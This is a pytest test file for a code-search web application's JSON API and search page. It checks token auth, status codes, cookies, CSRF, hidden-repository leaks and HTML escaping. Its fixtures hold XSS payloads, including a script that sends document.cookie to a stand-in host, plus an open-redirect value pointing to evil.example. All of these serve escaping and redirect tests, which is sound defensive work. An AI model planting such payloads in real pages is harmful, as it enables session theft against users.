"""The search page and the HTTP JSON API against a real coordinator with tokens.

A coordinator on the session's Ray cluster serves three repositories: ``alpha`` and ``evil`` (a
file whose name and content hold ``<script>``) for alice, ``beta`` for bob. Starlette's TestClient
drives the web application, which forwards each caller's token to the coordinator over gRPC.
Every HTTP status the API gives is provoked here, as are the login, the session cookie and the
CSRF checks, and the cases where a hidden repository could leak into a page.
"""

from __future__ import annotations

import asyncio
import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import grpc
import httpx
import pytest
from starlette.testclient import TestClient

from fourfold.coordinator.auth import hash_token, new_token
from fourfold.v1 import coordinator_pb2, coordinator_pb2_grpc
from fourfold.web import create_app
from fourfold.web.session import CSRF_COOKIE, SESSION_COOKIE, Signer

pytestmark = [pytest.mark.cluster, pytest.mark.slow]

ALICE, BOB, OPS, SLOW = new_token(), new_token(), new_token(), new_token()
SECRET = "test-secret"
EVIL_PATH = "evil/<script>alert(1)</script>.py"
EVIL_SOURCE = (
    '"""<script>alert("content")</script> and <img src=x onerror=alert(2)>"""\n\n\n'
    "def render_banner(name):\n"
    "    return \"<script>document.location='//x/?'+document.cookie</script>\" + name\n"
)


def write_repos(base: Path) -> dict[str, Path]:
    alpha, beta, evil = base / "alpha", base / "beta", base / "evil"
    (alpha / "pkg").mkdir(parents=True)
    (alpha / "pkg" / "ledger.py").write_text(
        '"""The alpha ledger."""\n\n\n'
        "def alpha_reconcile(entries, limit=10):\n"
        '    """Reconcile the alpha ledger entries."""\n'
        "    total = sum(e.amount for e in entries[:limit])\n"
        "    return total\n\n\n"
        "def alpha_settle(total):\n"
        "    return alpha_reconcile([total])\n"
    )
    (beta / "pkg").mkdir(parents=True)
    (beta / "pkg" / "vault.py").write_text(
        '"""The beta vault: hidden from alice."""\n\n\n'
        "def beta_unseal_vault(code):\n"
        '    """Open the beta vault (BETA_HIDDEN_MARKER)."""\n'
        "    return code == 'beta-hidden-marker'\n"
    )
    (evil / EVIL_PATH).parent.mkdir(parents=True)
    (evil / EVIL_PATH).write_text(EVIL_SOURCE)
    return {"alpha": alpha, "beta": beta, "evil": evil}


@dataclass(frozen=True, slots=True)
class Coordinator:
    address: str
    home: Path


@pytest.fixture(scope="module")
def coordinator(cluster: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Coordinator]:
    from fourfold.coordinator.auth import TokenStore
    from fourfold.coordinator.serving import start_server
    from fourfold.index.generation import build_generation
    from fourfold.index.store import IndexStore

    base = tmp_path_factory.mktemp("web")
    store = IndexStore(base / "home")
    store.ensure()
    build_generation(store, [(path, name) for name, path in write_repos(base).items()])
    grants = {
        "tokens": [
            {"name": "alice", "sha256": hash_token(ALICE), "repos": ["alpha", "evil"]},
            {"name": "bob", "sha256": hash_token(BOB), "repos": ["beta"]},
            {"name": "ops", "sha256": hash_token(OPS), "repos": ["*"], "admin": True},
            {"name": "slow", "sha256": hash_token(SLOW), "repos": ["*"], "max_concurrent": 1},
        ]
    }
    loop = cluster._loop
    running = asyncio.run_coroutine_threadsafe(
        start_server(store.home, "127.0.0.1:0", role="all", tokens=TokenStore.parse(json.dumps(grants), "test")),
        loop,
    ).result(timeout=300)
    try:
        yield Coordinator(running.address, store.home)
    finally:
        asyncio.run_coroutine_threadsafe(running.stop(), loop).result(timeout=30)
        assert running.engine is not None and running.engine.launcher is not None
        live = store.live_generation()
        if live:
            running.engine.launcher.retire(live)


@pytest.fixture(scope="module")
def web(coordinator: Coordinator) -> Iterator[TestClient]:
    with TestClient(create_app(coordinator.address, secret=SECRET)) as client:
        yield client


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def error_of(r: httpx.Response, status: int) -> str:
    assert r.status_code == status, r.text
    body = r.json()
    assert body["error"]["status"] == status
    return str(body["error"]["message"])


def login(web: TestClient, token: str) -> str:
    """Log in through the form like a browser (``web`` keeps the cookies); the session cookie."""
    web.cookies.clear()
    page = web.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    r = web.post("/login", data={"token": token, "csrf": csrf.group(1), "next": "/"}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return str(web.cookies[SESSION_COOKIE])


def scripts_only_ours(html: str) -> None:
    """Every <script> in the page is one of the page's own static files."""
    for m in re.finditer(r"<script\b[^>]*>", html, re.IGNORECASE):
        assert re.fullmatch(r'<script src="/static/(htmx\.min|app)\.js" defer>', m.group(0)), m.group(0)
    assert "onerror=" not in html.replace("onerror=alert(2)&gt;", "")


# -- the API: answers ------------------------------------------------------------------------------


def test_search_returns_the_json_of_the_cli(web: TestClient, coordinator: Coordinator) -> None:
    from fourfold import Client
    from fourfold.wire import answer_to_json, answer_to_pb

    r = web.get("/api/v1/search", params={"q": "alpha_reconcile", "k": 5}, headers=bearer(ALICE))
    assert r.status_code == 200, r.text
    body = r.json()
    with Client(coordinator.address, token=ALICE) as c:
        direct = answer_to_json(answer_to_pb(c.search("alpha_reconcile", k=5)))
    assert body.keys() == direct.keys()
    strip = ("timings_ms",)
    assert {k: v for k, v in body.items() if k not in strip} == {k: v for k, v in direct.items() if k not in strip}
    top = body["hits"][0]
    assert (top["repo"], top["path"], top["symbol"], top["start_line"]) == (
        "alpha",
        "pkg/ledger.py",
        "alpha_reconcile",
        4,
    )
    assert top["modalities"] and all({"rank", "contribution"} == set(v) for v in top["modalities"].values())


def test_cli_json_and_api_json_agree(
    web: TestClient, coordinator: Coordinator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from fourfold.coordinator.cli import main

    monkeypatch.setenv("FOURFOLD_TOKEN", ALICE)
    assert main(["search", "alpha_settle", "--json", "--address", coordinator.address, "-k", "3"]) == 0
    cli = json.loads(capsys.readouterr().out)
    api = web.get("/api/v1/search", params={"q": "alpha_settle", "k": 3}, headers=bearer(ALICE)).json()
    assert cli.keys() == api.keys()
    assert [(h["repo"], h["path"], h["start_line"], h["modalities"]) for h in cli["hits"]] == [
        (h["repo"], h["path"], h["start_line"], h["modalities"]) for h in api["hits"]
    ]


def test_search_filters_and_switches_reach_the_engine(web: TestClient) -> None:
    r = web.get(
        "/api/v1/search",
        params=[
            ("q", "alpha_\\w+"),
            ("regex", "1"),
            ("case", "true"),
            ("repo", "alpha"),
            ("lang", "python"),
            ("path", "pkg/*"),
            ("intent", "exact"),
            ("preset", "quick"),
            ("modality", "text"),
        ],
        headers=bearer(ALICE),
    )
    body = r.json()
    assert r.status_code == 200 and body["intent"] == "exact_match" and body["preset"] == "quick"
    assert body["hits"] and {h["repo"] for h in body["hits"]} == {"alpha"}
    assert {m for h in body["hits"] for m in h["modalities"]} == {"text"}


def test_context_lines_reach_the_snippet_and_the_page(web: TestClient) -> None:
    params = {"q": "alpha_settle", "regex": "1", "repo": "alpha", "context": "1"}
    body = web.get("/api/v1/search", params=params, headers=bearer(ALICE)).json()
    assert body["hits"][0]["snippet"] == "9-\n10:def alpha_settle(total):\n11-    return alpha_reconcile([total])"
    page = web.get("/", params={**params, "context": "3"}, headers=bearer(ALICE))
    assert page.status_code == 200 and "?hl=7#L7" in page.text  # line 7, three before the match at 10, is shown
    assert "?hl=7#L7" not in web.get("/", params={**params, "context": ""}, headers=bearer(ALICE)).text


def test_max_count_keeps_each_files_first_matching_lines(web: TestClient) -> None:
    params = {"q": "alpha_", "regex": "1", "repo": "alpha"}
    every = web.get("/api/v1/search", params=params, headers=bearer(ALICE)).json()["total_matches"]
    first = web.get("/api/v1/search", params={**params, "max_count": "1"}, headers=bearer(ALICE)).json()
    assert first["total_matches"]["lines"] == first["total_matches"]["files"] == every["files"] < every["lines"]
    page = web.get("/", params={**params, "max_count": "1"}, headers=bearer(ALICE))
    assert page.status_code == 200 and "max_count=1" in page.text  # the next page's link keeps it


def test_multiline_matches_span_lines_and_the_page_keeps_it(web: TestClient) -> None:
    params = {"q": "def alpha_settle.*\\n\\s+return", "repo": "alpha", "multiline": "on"}
    body = web.get("/api/v1/search", params=params, headers=bearer(ALICE)).json()
    assert [(h["path"], h["match_lines"]) for h in body["hits"]] == [("pkg/ledger.py", [10, 11])]
    within = web.get("/api/v1/search", params={**params, "multiline": "off", "regex": "1"}, headers=bearer(ALICE))
    assert not within.json()["total_matches"]["lines"]  # without it a match lies within one line: none
    page = web.get("/", params=params, headers=bearer(ALICE))
    assert page.status_code == 200 and "multiline=on" in page.text


def test_a_path_listing_shows_its_totals_and_pages_on_and_hides_what_the_token_may_not_read(web: TestClient) -> None:
    r = web.get("/api/v1/search", params={"q": ".py", "paths": "1"}, headers=bearer(ALICE))
    body = r.json()
    assert r.status_code == 200 and body["hits"][0]["path"] == "pkg/ledger.py", body
    assert {h["repo"] for h in body["hits"]} == {"alpha", "evil"}  # beta's paths are not alice's to list
    page = web.get("/", params={"q": "file:ledger"}, headers=bearer(ALICE))
    assert page.status_code == 200 and "1 matching files · complete" in page.text and "pkg/ledger.py" in page.text
    assert "vault.py" not in web.get("/", params={"q": "file:vault"}, headers=bearer(ALICE)).text
    listing = web.get("/", params={"q": "*", "paths": "1", "k": 1}, headers=bearer(ALICE))
    assert re.search(r'<input type="checkbox" name="paths" value="1" checked>', listing.text)  # the toggle says so
    more = re.search(r'<a rel="next" href="([^"]+)">next page</a>', listing.text)
    assert more is not None and "cursor=" in more.group(1), listing.text[:2000]
    nxt = web.get(html.unescape(more.group(1)), headers=bearer(ALICE))
    assert nxt.status_code == 200 and "2 matching files · complete" in nxt.text
    folder = web.get("/", params={"q": "ls pkg"}, headers=bearer(ALICE))  # beta's folder is no folder of alice's
    assert "read as the command ls" in folder.text and "pkg/ledger.py" in folder.text and "vault.py" not in folder.text
    top = web.get("/", params={"q": "ls", "repo": "alpha"}, headers=bearer(ALICE))  # each folder a link to its ls
    link = re.search(r'<p class="note folders">folders in ./: <a href="([^"]+)">pkg/</a>', top.text)
    assert link is not None, top.text[:3000]
    inner = web.get(html.unescape(link.group(1)), headers=bearer(ALICE))
    assert "read as the command ls: the files directly in pkg/" in inner.text and "pkg/ledger.py" in inner.text
    read = web.get("/", params={"q": "sed -n '4,7p' pkg/ledger.py", "repo": "alpha"}, headers=bearer(ALICE))
    assert "read as the command sed -n" in read.text and "alpha_reconcile" in read.text
    assert '<details class="why">' not in read.text  # a file's segments read in line order were ranked by nothing
    hidden = web.get("/", params={"q": "cat pkg/vault.py"}, headers=bearer(ALICE))
    assert "no indexed file is &#39;pkg/vault.py&#39;" in hidden.text and "beta" not in hidden.text.split("<main")[-1]


def test_repositories_status_and_files_show_only_what_the_token_may_read(web: TestClient) -> None:
    names = [r["name"] for r in web.get("/api/v1/repositories", headers=bearer(ALICE)).json()["repositories"]]
    assert names == ["alpha", "evil"]
    status = web.get("/api/v1/status", headers=bearer(ALICE)).json()
    assert [r["name"] for r in status["repos"]] == ["alpha", "evil"] and "beta" not in json.dumps(status)
    assert all(s["address"] == "" for s in status["shards"])  # worker addresses only for admins
    f = web.get("/api/v1/files/alpha/pkg/ledger.py", params={"lines": "4-7"}, headers=bearer(ALICE)).json()
    assert (f["start_line"], f["end_line"], f["total_lines"], f["language"]) == (4, 7, 11, "python")
    assert f["content"].splitlines()[0] == "def alpha_reconcile(entries, limit=10):"
    assert [s["symbol"] for s in f["symbols"]] == ["alpha_reconcile", "alpha_settle"]
    admin = [r["name"] for r in web.get("/api/v1/repositories", headers=bearer(OPS)).json()["repositories"]]
    assert admin == ["alpha", "beta", "evil"]


def test_openapi_describes_every_endpoint(web: TestClient) -> None:
    doc = web.get("/api/v1/openapi.json").json()
    assert doc["openapi"].startswith("3.")
    assert set(doc["paths"]) == {
        "/api/v1/search",
        "/api/v1/repositories",
        "/api/v1/status",
        "/api/v1/files/{repo}/{path}",
    }
    params = {p["name"] for p in doc["paths"]["/api/v1/search"]["get"]["parameters"]}
    assert {"q", "repo", "k", "intent", "lang", "path", "regex", "case", "preset", "modality"} <= params
    refs = re.findall(r'"\$ref": "#/components/schemas/(\w+)"', json.dumps(doc))
    assert refs and set(refs) <= set(doc["components"]["schemas"])


# -- the API: every status -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "offending"),
    [
        ({"q": ""}, "missing q"),
        ({"q": "x", "k": "abc"}, "'abc'"),
        ({"q": "x", "k": "0"}, "k='0'"),
        ({"q": "x", "intent": "guess"}, "'guess'"),
        ({"q": "x", "preset": "fastest"}, "'fastest'"),
        ({"q": "x", "regex": "maybe"}, "'maybe'"),
        ({"q": "x", "weight": "text"}, "'text'"),
        ({"q": "(unclosed", "regex": "1"}, "(unclosed"),
        ({"q": "x" * 10_001}, "10001"),
        ({"q": "x", "context": "11"}, "context='11'"),
        ({"q": "x", "max_count": "0"}, "max_count='0'"),
        ({"q": "x", "multiline": "sometimes"}, "multiline='sometimes'"),
        ({"q": "x", "multiline": "on", "paths": "1"}, "multiline=on and paths=1"),
    ],
)
def test_bad_input_is_400_naming_the_value(web: TestClient, params: dict[str, str], offending: str) -> None:
    message = error_of(web.get("/api/v1/search", params=params, headers=bearer(ALICE)), 400)
    assert offending in message


def test_bad_line_range_is_400(web: TestClient) -> None:
    assert "'x-y'" in error_of(web.get("/api/v1/files/alpha/pkg/ledger.py?lines=x-y", headers=bearer(ALICE)), 400)
    assert "past the end" in error_of(
        web.get("/api/v1/files/alpha/pkg/ledger.py?lines=500-600", headers=bearer(ALICE)), 400
    )


@pytest.mark.parametrize(
    ("headers", "why"),
    [
        ({}, "missing bearer token"),
        (bearer("ff_not_a_token"), "invalid bearer token"),
        ({"Authorization": "Basic YWxpY2U6cHc="}, "malformed Authorization"),
        ({"Authorization": "Bearer "}, "malformed Authorization"),
    ],
)
def test_missing_or_wrong_token_is_401(web: TestClient, headers: dict[str, str], why: str) -> None:
    for url in (
        "/api/v1/search?q=alpha_reconcile",
        "/api/v1/repositories",
        "/api/v1/status",
        "/api/v1/files/alpha/pkg/ledger.py",
    ):
        r = web.get(url, headers=headers)
        assert why in error_of(r, 401)
        assert r.headers["www-authenticate"].startswith("Bearer")


def test_a_forbidden_repository_is_403_like_a_missing_one(web: TestClient) -> None:
    told = {
        repo: error_of(web.get("/api/v1/search", params={"q": "vault", "repo": repo}, headers=bearer(ALICE)), 403)
        for repo in ("beta", "no-such-repo")
    }
    assert told["beta"].replace("'beta'", "<r>") == told["no-such-repo"].replace("'no-such-repo'", "<r>")


def test_a_hidden_file_is_404_like_a_missing_one(web: TestClient, coordinator: Coordinator) -> None:
    hidden = error_of(web.get("/api/v1/files/beta/pkg/vault.py", headers=bearer(ALICE)), 404)
    missing = error_of(web.get("/api/v1/files/nope/pkg/vault.py", headers=bearer(ALICE)), 404)
    assert hidden.replace("'beta'", "<r>") == missing.replace("'nope'", "<r>")
    assert "vault" not in web.get("/api/v1/files/alpha/pkg/vault.py", headers=bearer(ALICE)).text.replace(
        "pkg/vault.py", ""
    )
    assert web.get("/api/v1/files/beta/pkg/vault.py", headers=bearer(BOB)).status_code == 200
    # the same through gRPC, which the page uses
    with grpc.insecure_channel(coordinator.address) as ch:
        stub = coordinator_pb2_grpc.CoordinatorStub(ch)
        details = {}
        for repo in ("beta", "nope"):
            with pytest.raises(grpc.RpcError) as info:
                stub.ReadFile(
                    coordinator_pb2.ReadFileRequest(repo=repo, path="pkg/vault.py"),
                    metadata=(("authorization", f"Bearer {ALICE}"),),
                    timeout=10,
                )
            assert info.value.code() == grpc.StatusCode.NOT_FOUND
            details[repo] = info.value.details().replace(repr(repo), "<r>")
        assert details["beta"] == details["nope"]
    # and through the Python client
    from fourfold import Client
    from fourfold.errors import NotFound

    with Client(coordinator.address, token=ALICE) as c:
        f = c.read_file("alpha", "pkg/ledger.py", 4, 4)
        assert (f.content, f.start_line, f.end_line) == ("def alpha_reconcile(entries, limit=10):", 4, 4)
        with pytest.raises(NotFound):
            c.read_file("beta", "pkg/vault.py")


def test_unknown_endpoint_is_404_json(web: TestClient) -> None:
    assert "/api/v1/nothing" in error_of(web.get("/api/v1/nothing", headers=bearer(ALICE)), 404)


def test_too_many_requests_in_flight_is_429(coordinator: Coordinator) -> None:
    app = create_app(coordinator.address, secret=SECRET)

    async def burst() -> list[httpx.Response]:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://web") as client:
            return await asyncio.gather(
                *(
                    client.get(
                        "/api/v1/search", params={"q": f"how is the ledger reconciled {i}"}, headers=bearer(SLOW)
                    )
                    for i in range(16)
                )
            )

    statuses = [r.status_code for r in asyncio.run(burst())]
    assert set(statuses) <= {200, 429} and 429 in statuses and 200 in statuses, statuses
    refused = next(r for r in asyncio.run(burst()) if r.status_code == 429) if 429 in statuses else None
    assert refused is None or "too many concurrent requests" in refused.json()["error"]["message"]
    # once searches have finished, the refusal says when to retry: about a search's time, in whole seconds
    assert refused is None or int(refused.headers["Retry-After"]) >= 1, refused.headers


def test_an_unreachable_coordinator_is_503() -> None:
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        dead = f"127.0.0.1:{s.getsockname()[1]}"
    with TestClient(create_app(dead, secret=SECRET)) as client:
        r = client.get("/api/v1/status", headers=bearer(ALICE))
        assert error_of(r, 503)
        page = client.get("/?q=x")
        assert page.status_code == 503 and "error" in page.text


# -- the page: sessions, CSRF, leaks, escaping -------------------------------------------------------


def test_login_sets_a_signed_http_only_strict_cookie(web: TestClient) -> None:
    web.cookies.clear()
    page = web.get("/login")
    assert page.status_code == 200
    set_cookie = page.headers["set-cookie"]
    assert CSRF_COOKIE in set_cookie and "httponly" in set_cookie.lower() and "samesite=strict" in set_cookie.lower()
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    r = web.post(
        "/login", data={"token": ALICE, "csrf": csrf.group(1), "next": "/?q=alpha_settle"}, follow_redirects=False
    )
    assert r.status_code == 303 and r.headers["location"] == "/?q=alpha_settle"
    cookie = r.headers["set-cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=")
    low = cookie.lower()
    assert "httponly" in low and "samesite=strict" in low and "secure" not in low and "max-age=" in low
    assert ALICE not in r.headers["location"]
    results = web.get("/?q=alpha_settle")
    assert results.status_code == 200 and "pkg/ledger.py" in results.text and "Log out" in results.text
    web.cookies.clear()


def test_cookie_is_secure_over_https(coordinator: Coordinator) -> None:
    with TestClient(create_app(coordinator.address, secret=SECRET), base_url="https://web.test") as client:
        page = client.get("/login")
        assert "secure" in page.headers["set-cookie"].lower()
        csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
        assert csrf is not None
        r = client.post("/login", data={"token": ALICE, "csrf": csrf.group(1)}, follow_redirects=False)
        assert r.status_code == 303 and "; secure" in r.headers["set-cookie"].lower()


def test_login_needs_the_csrf_token_and_a_known_token(web: TestClient) -> None:
    web.cookies.clear()
    page = web.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    no_csrf = web.post("/login", data={"token": ALICE}, follow_redirects=False)
    assert no_csrf.status_code == 403 and SESSION_COOKIE not in no_csrf.headers.get("set-cookie", "")
    forged = web.post("/login", data={"token": ALICE, "csrf": "forged"}, follow_redirects=False)
    assert forged.status_code == 403
    # the right token from another browser (no CSRF cookie) is refused too
    other = web.cookies.get(CSRF_COOKIE)
    web.cookies.clear()
    assert web.post("/login", data={"token": ALICE, "csrf": csrf.group(1)}, follow_redirects=False).status_code == 403
    web.cookies.clear()
    web.cookies.set(CSRF_COOKIE, other or "")
    wrong = web.post("/login", data={"token": "ff_wrong", "csrf": csrf.group(1)}, follow_redirects=False)
    assert wrong.status_code == 401 and "does not know this token" in wrong.text
    offsite = web.post(
        "/login", data={"token": ALICE, "csrf": csrf.group(1), "next": "//evil.example/"}, follow_redirects=False
    )
    assert offsite.status_code == 303 and offsite.headers["location"] == "/"
    web.cookies.clear()


def test_forged_and_expired_sessions_are_refused(web: TestClient) -> None:
    good = login(web, ALICE)
    payload, mac = good.rsplit(".", 1)
    signer = Signer(SECRET.encode())
    assert signer.token_of(good) == ALICE
    assert signer.token_of(f"{payload}.{mac[:-2]}AA") is None
    assert Signer(b"another secret").token_of(good) is None
    assert signer.token_of(signer.session(ALICE, now=0)) is None  # expired in 1970
    for value in (f"{payload}.{mac[:-2]}AA", signer.session(ALICE, now=0), "garbage"):
        web.cookies.clear()
        web.cookies.set(SESSION_COOKIE, value)
        r = web.get("/?q=alpha_settle")
        assert r.status_code == 401 and "Log in" in r.text and "ledger" not in r.text
    web.cookies.clear()
    web.cookies.set(SESSION_COOKIE, good)
    api = web.get("/api/v1/repositories")
    assert [x["name"] for x in api.json()["repositories"]] == ["alpha", "evil"]


def test_logout_needs_csrf_and_clears_the_session(web: TestClient) -> None:
    login(web, ALICE)
    assert web.post("/logout", data={"csrf": "forged"}, follow_redirects=False).status_code == 403
    page = web.get("/")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    r = web.post("/logout", data={"csrf": csrf.group(1)}, follow_redirects=False)
    assert r.status_code == 303 and f'{SESSION_COOKIE}=""' in r.headers["set-cookie"]
    web.cookies.clear()


def test_nothing_of_a_hidden_repository_reaches_the_page(web: TestClient) -> None:
    login(web, ALICE)
    queries = [
        "beta_unseal_vault",
        "BETA_HIDDEN_MARKER",
        "vault",
        "how is the vault opened",
        '"beta-hidden-marker"',
        "def beta_unseal_vault(code):",
    ]
    pages = [web.get("/", params={"q": q}) for q in queries]
    pages += [
        web.get("/", params={"q": q, "intent": i}) for q in queries[:2] for i in ("references", "impact", "similar")
    ]
    pages.append(web.get("/symbol", params={"name": "beta_unseal_vault"}))
    pages.append(web.get("/"))
    for p in pages:
        assert p.status_code == 200, p.text
        text = p.text
        for q in queries:  # the page repeats the query itself (title, search box, links): not a leak
            for form in (q, html.escape(q), quote_plus(q), quote(q)):
                text = text.replace(form, "")
        for leaked in ("vault.py", "Open the beta vault", '<span class="repo">beta</span>', "MARKER)", "code =="):
            assert leaked not in text, (leaked, p.url)
    hidden = web.get("/file/beta/pkg/vault.py")
    missing = web.get("/file/nope/pkg/vault.py")
    assert hidden.status_code == missing.status_code == 404
    assert "unseal" not in hidden.text
    asked_for = web.get("/", params={"q": "vault", "repo": "beta"})
    assert asked_for.status_code == 403 and "unseal" not in asked_for.text
    # bob sees it
    login(web, BOB)
    assert "beta_unseal_vault" in web.get("/", params={"q": "beta_unseal_vault"}).text


def test_script_in_file_names_and_content_is_escaped(web: TestClient) -> None:
    login(web, ALICE)
    api = web.get("/api/v1/search", params={"q": "render_banner"}, headers=bearer(ALICE)).json()
    assert api["hits"][0]["path"] == EVIL_PATH  # the JSON carries it as data
    pages = {
        "search": web.get("/", params={"q": "render_banner"}),
        "regex": web.get("/", params={"q": "<script>", "regex": "0", "intent": "exact"}),
        "file": web.get(f"/file/evil/{EVIL_PATH}"),
        "symbol": web.get("/symbol", params={"name": "render_banner"}),
        "query": web.get("/", params={"q": '"><script>alert(9)</script>'}),
        "error": web.get("/", params={"q": "x", "k": "<script>alert(8)</script>"}),
    }
    for name, p in pages.items():
        assert p.status_code in (200, 400), (name, p.status_code)
        scripts_only_ours(p.text)
        assert "<script>alert" not in p.text and "<img src=x" not in p.text, name
        assert p.headers["content-security-policy"].startswith("default-src 'self'")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.py" in pages["search"].text
    assert "render_banner" in pages["file"].text and "&lt;script&gt;" in pages["file"].text
    assert 'id="L4"' in pages["file"].text


def test_file_view_marks_the_hit_and_links_identifiers(web: TestClient) -> None:
    login(web, ALICE)
    r = web.get("/file/alpha/pkg/ledger.py", params={"hl": "4-7"})
    assert r.status_code == 200
    marked = re.findall(r'<tr id="L(\d+)" class="hl">', r.text)
    assert marked == ["4", "5", "6", "7"]
    assert "/symbol?name=alpha_settle&amp;repo=alpha" in r.text
    assert "intent=references" in r.text and "intent=impact" in r.text
    sym = web.get("/symbol", params={"name": "alpha_reconcile", "repo": "alpha"})
    assert sym.status_code == 200
    for section in ('id="definition"', 'id="references"', 'id="impact"'):
        assert section in sym.text
    # the search page: results grouped by file, lines linking to the file view, the why one click away
    page = web.get("/", params={"q": "alpha_reconcile"})
    assert '<details class="why">' in page.text and "/file/alpha/pkg/ledger.py?hl=4" in page.text
    assert re.search(r'<span class="chip"[^>]*>definition <span class="conf">\d+%</span>', page.text)
    assert page.text.count('<section class="file">') == len(set(re.findall(r'class="fname" href="([^"]+)"', page.text)))


def test_no_confident_match_and_notes_are_said_plainly(web: TestClient) -> None:
    login(web, ALICE)
    api = web.get("/api/v1/search", params={"q": "quantum entanglement of teapots"}, headers=bearer(ALICE)).json()
    page = web.get("/", params={"q": "quantum entanglement of teapots"})
    assert page.status_code == 200
    if api["no_confident_match"]:
        assert "No confident match" in page.text
    else:
        assert "No confident match" not in page.text
    if not api["hits"]:
        assert "No hits" in page.text


# -- the commands ------------------------------------------------------------------------------------


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _wait_http(url: str, proc: Any = None, timeout: float = 60.0) -> httpx.Response:
    import time

    deadline = time.monotonic() + timeout
    while True:
        try:
            return httpx.get(url, timeout=2.0)
        except httpx.TransportError:
            assert proc is None or proc.poll() is None, proc.stderr.read() if proc.stderr else "exited"
            assert time.monotonic() < deadline, f"{url} did not answer"
            time.sleep(0.1)


def test_fourfold_web_command_serves_the_api(coordinator: Coordinator) -> None:
    import os
    import subprocess
    import sys

    port = _free_port()
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1]), "FOURFOLD_TOKEN": OPS}
    proc = subprocess.Popen(
        [sys.executable, "-m", "fourfold", "web", "--address", coordinator.address, "--listen", f"127.0.0.1:{port}"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        health = _wait_http(f"http://127.0.0.1:{port}/healthz", proc)
        assert health.json() == {"coordinator": "SERVING"}
        # $FOURFOLD_TOKEN is an admin's, but the web server never uses its own environment's token
        anonymous = httpx.get(f"http://127.0.0.1:{port}/api/v1/repositories")
        assert anonymous.status_code == 401
        r = httpx.get(f"http://127.0.0.1:{port}/api/v1/repositories", headers=bearer(BOB))
        assert [x["name"] for x in r.json()["repositories"]] == ["beta"]
    finally:
        proc.terminate()
        proc.wait(timeout=20)
    bad = subprocess.run(
        [sys.executable, "-m", "fourfold", "web", "--listen", "nowhere"], env=env, capture_output=True, text=True
    )
    assert bad.returncode == 2 and "invalid listen address 'nowhere'" in bad.stderr and "Traceback" not in bad.stderr


def test_serve_web_port_runs_the_page_beside_the_coordinator(coordinator: Coordinator) -> None:
    from fourfold.coordinator.cli import _start_web, build_parser

    port = _free_port()
    args = build_parser().parse_args(["serve", "--address", "127.0.0.1:0", "--web-port", str(port)])
    stop = _start_web(args, coordinator.address, None)
    try:
        r = _wait_http(f"http://127.0.0.1:{port}/api/v1/search?q=alpha_reconcile", timeout=30)
        assert r.status_code == 401
        ok = httpx.get(f"http://127.0.0.1:{port}/api/v1/search?q=alpha_reconcile", headers=bearer(ALICE))
        assert ok.status_code == 200 and ok.json()["hits"][0]["symbol"] == "alpha_reconcile"
    finally:
        stop()
